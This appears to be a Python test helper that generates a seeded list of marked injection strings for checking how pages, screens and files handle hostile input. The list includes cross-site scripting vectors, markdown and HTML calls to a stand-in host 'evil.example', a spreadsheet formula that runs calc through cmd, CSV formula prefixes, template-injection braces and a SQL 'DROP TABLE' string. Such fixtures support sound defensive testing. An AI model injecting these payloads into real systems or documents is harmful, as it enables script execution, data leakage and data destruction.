"""Words that would run, load, calculate or turn about if a page, a screen or a file took them for more than words."""

from __future__ import annotations

import random

MARK = "zq"  # each payload bears it with a number of its own, so that it is found again wherever it is shown
FORMS = [
    "<script>hit({n})</script>{m}",
    "<img src=x onerror=hit({n})>{m}",
    '"><svg onload=hit({n})>{m}',
    "<iframe srcdoc='<script>parent.hit({n})</script>'>{m}",
    "<a href=javascript:hit({n})>{m}",
    "<b onmouseover=hit({n})>{m}",
    "</title></style></textarea><img src=//evil.example/{n}>{m}",
    "<style>@import'//evil.example/{n}'</style>{m}",
    "<math><mtext></p><img src=x onerror=hit({n})>{m}",
    "<details open ontoggle=hit({n})>{m}",
    "<base href=//evil.example/>{m}",
    "<meta http-equiv=refresh content=0;url=//evil.example>{m}",
    "&lt;img src=x onerror=hit({n})&gt;{m}",
    "![{m}](http://evil.example/{n}.png)",
    "[{m}](javascript:hit({n}))",
    "[{m}](http://evil.example/{n})",
    "**{m}**",
    "~~{m}~~",
    "`{m}`",
    "$${m}^2$$",
    ":red[{m}]",
    ":material/{m}:",
    "# {m}",
    "<http://evil.example/{m}>",
    "=HYPERLINK(\"http://evil.example\",\"{m}\")",
    "=cmd|'/C calc'!{m}",
    "+1+{m}",
    "-2-{m}",
    "@SUM({m})",
    "%{{{m}}}",
    "{{{{{m}}}}}",
    "${{{m}}}",
    "'; DROP TABLE reports; --{m}",
    "\\u003cimg src=x onerror=hit({n})\\u003e{m}",
    "<text x=0 onclick=hit({n})>{m}</text>",
    "<a href='//evil.example' style='position:fixed;inset:0'>{m}",
]  # fmt: skip
TURNED = "\u202e{m}\u202c"
AROUND = ["{}", "（{}）", "a{}", "{}b", "“{}”", " {} ", "{0}{0}"]


def payloads(count: int, seed: int = 16) -> list[str]:
    """Return so many of them, the same every time: every form first, then forms in surroundings drawn by chance."""
    dice = random.Random(seed)
    order = dice.sample(FORMS, len(FORMS)) if count < len(FORMS) else FORMS
    drawn = [*order[:count], *(dice.choice(FORMS) for _ in range(count - len(order)))]
    return [
        (form if n < len(order) else dice.choice(AROUND).format(form)).format(n=n, m=f"{MARK}{n}x")
        for n, form in enumerate(drawn)
    ]
